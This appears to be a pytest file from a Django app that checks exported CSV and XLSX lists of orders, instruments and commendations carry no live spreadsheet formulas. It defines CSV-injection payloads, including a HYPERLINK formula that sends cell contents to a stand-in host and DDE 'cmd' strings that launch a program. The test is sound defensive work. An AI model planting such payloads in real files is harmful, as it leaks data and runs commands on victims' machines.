"""What people typed about orders, instruments and commendations is text in every file that leaves, never a formula.

Runs and surveys have theirs in test_run_exports.py and test_survey_programs.py.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.factories.cases import given_commendation
from tests.factories.orders import given_instrument, given_order
from tests.factories.world import Place, World

pytestmark = pytest.mark.django_db
#: Each begins as a spreadsheet's formula does, some behind what a reader does not see (OWASP, CSV Injection).
HOSTILE = (
    '=HYPERLINK("http://x.example/"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u3000=1+1",
    "＝1+1",
)
STARTS = tuple("=+-@＝＋－＠\t\r")


def an_order(here: Place, text: str) -> None:
    given_order(here, facts=text, basis=text, demands=text)


def an_instrument(here: Place, text: str) -> None:
    given_instrument(here, issuer=text, content=text)


def a_commendation(here: Place, text: str) -> None:
    given_commendation(here, honour=text, deeds=text)


LISTS: dict[str, Callable[[Place, str], None]] = {
    "orders": an_order,
    "instruments": an_instrument,
    "commendations": a_commendation,
}


def cells(answer: Any) -> list[Any]:
    content = b"".join(answer.streaming_content)
    if content.startswith(b"PK"):
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        return [cell for row in sheet.iter_rows() for cell in row]
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


@pytest.mark.parametrize("name", LISTS)
def test_a_file_of_a_list_holds_no_formula(world: World, name: str) -> None:
    here = world.here
    for text in HOSTILE:
        LISTS[name](here, text)
    auditor, address = here.client("auditor"), f"/assessment/{name}/export/?tab=all"
    asked = {"columns": "all", "purpose": "年度审计核查"}
    written = cells(auditor.post(address, {**asked, "format": "csv"}))
    assert sum("calc" in cell or "HYPERLINK" in cell or "1+1" in cell for cell in written) >= len(HOSTILE)
    assert not [cell for cell in written if cell.lstrip(" \u00a0\u3000\n").startswith(STARTS)]
    sheet = cells(auditor.post(address, {**asked, "format": "xlsx"}))
    assert any("HYPERLINK" in str(cell.value) for cell in sheet)
    assert not [cell.value for cell in sheet if cell.data_type == "f"]
